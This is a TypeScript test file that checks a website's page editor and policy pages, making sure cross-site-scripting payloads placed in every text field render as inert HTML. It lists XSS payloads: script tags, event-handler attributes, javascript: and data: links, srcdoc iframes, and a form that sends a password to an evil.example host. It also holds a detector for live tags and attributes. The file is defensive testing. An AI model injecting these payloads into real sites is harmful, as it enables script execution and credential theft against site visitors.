import { Parser } from 'htmlparser2';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { type BlockContent, blocksField } from '#src/content/blocks.ts';
import { policyPage } from '#src/content/policies.ts';
import { validValues } from '#src/lib/records/schema.ts';
import { ManagedBlocks, ManagedPage } from '#src/page-editor/managed.tsx';
import { blocksIn } from '#src/page-editor/published.server.ts';
import { publishBlocks } from '#tests/helpers/blocks.ts';
import { siteOfAll } from '#tests/helpers/site.ts';
import { PolicyPage, renderPolicy } from './policy.tsx';

const site = await siteOfAll();

const ownOrigin = 'https://northarc.example';

/** Everything in a page's HTML that a browser would run, load from elsewhere or follow to a script. */
function alive(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (/^(script|iframe|object|embed|base|link|meta|style|form|input|template|math|audio|video)$/.test(name)) {
        found.push(`<${name}>`);
      }
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on|^style$|^srcdoc$|^formaction$|^xlink/.test(attribute)) found.push(`${name} ${attribute}=${value}`);
        if (attribute !== 'href' && attribute !== 'src') continue;
        const { protocol, origin } = new URL(value, ownOrigin);
        if (attribute === 'src' ? origin !== ownOrigin : !/^(https?|mailto|tel):$/.test(protocol)) {
          found.push(`${attribute}=${value}`);
        }
      }
    },
  });
  parser.end(html);
  return found;
}

const payloads = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</style></title><script>alert(1)</script>',
  '[click](javascript:alert(1)) <a href="java&#9;script:alert(1)">x</a> ![x](data:text/html,x)',
  '<a href="//evil.example" onclick="alert(1)">x</a><iframe srcdoc="<script>1</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><math><mtext></form><base href="//evil">',
  '<details open ontoggle=alert(1)><summary>x</summary></details><style>*{display:none}</style>',
  '```html\n<script>alert(1)</script>\n```\n# <img src=x onerror=alert(1)>\n| <script> |\n|---|\n| <b onclick=x> |',
];

/** Every field of every block that takes free text filled with the payload. */
function blocksOf(payload: string) {
  const button = { text: payload.slice(0, 60), link: '/quote' };
  const text = payload.slice(0, 200);
  const service = { title: text, description: payload, features: [text] };
  return [
    {
      id: 'hero',
      type: 'hero',
      content: {
        ...{ title: text, subtitle: text, description: payload, backgroundImage: '' },
        ...{ primaryButton: button, secondaryButton: button },
      },
    },
    { id: 'section', type: 'section', content: { title: text, description: payload, services: [service] } },
    { id: 'text', type: 'text', content: { text: payload } },
    { id: 'image', type: 'image', content: { src: '/og/default.png', alt: text } },
    { id: 'odd', type: 'unknown', content: { id: 'odd', type: payload, content: { html: payload } } },
  ];
}

test('the check sees what is alive', () => {
  expect(alive('<p onclick=x><script></script><a href="javascript:x">')).toHaveLength(3);
});

test.each(payloads)('%j in every field does nothing, on a page and in a policy', async (payload) => {
  const { published } = site.deps.content;
  const sent = blocksOf(payload);
  expect(await publishBlocks(site.deps, 'home', sent)).toHaveProperty('ok', true);
  const shown = published().blocksOf('home');
  expect(shown).toHaveLength(sent.length);
  const text = payload.slice(0, 200);
  const content = { lastUpdated: text, sections: [{ title: text, content: payload }] };
  const policy = [{ id: 'privacy-content', type: 'privacy', content }];
  expect(await publishBlocks(site.deps, 'privacy', policy)).toHaveProperty('ok', true);
  const managed = published().policyOf('privacy')!;
  const html = renderToStaticMarkup(
    <>
      <ManagedPage blocks={shown} title="x" lead="x" />
      <PolicyPage words={policyPage('privacy')} document={await renderPolicy(managed)} />
    </>,
  );
  expect(alive(html)).toEqual([]);
  expect(html).not.toContain('[object Object]');
});

test('links and addresses that run are refused, and left out of the preview', async () => {
  for (const link of ['javascript:alert(1)', 'data:text/html,x', '//evil.example', 'java\tscript:alert(1)']) {
    const [hero, , , image] = blocksOf('x');
    const content = { ...(hero?.content as BlockContent<'hero'>), primaryButton: { text: 'Go', link } };
    const sent = [
      { ...hero, content: { ...content, backgroundImage: link } },
      { ...image, content: { src: link, alt: 'x' } },
    ];
    expect(await publishBlocks(site.deps, 'about', sent)).toHaveProperty('reason', 'invalid');
    const { blocks } = validValues({ fields: { blocks: blocksField('about') } }, { blocks: sent });
    const records = { 'words-about': [{ id: 'about', blocks }] };
    const shown = (await blocksIn(site.deps.db.sql, records)).blocksOf('about');
    expect(shown).toHaveLength(2);
    expect(alive(renderToStaticMarkup(<ManagedBlocks blocks={shown} />))).toEqual([]);
  }
});
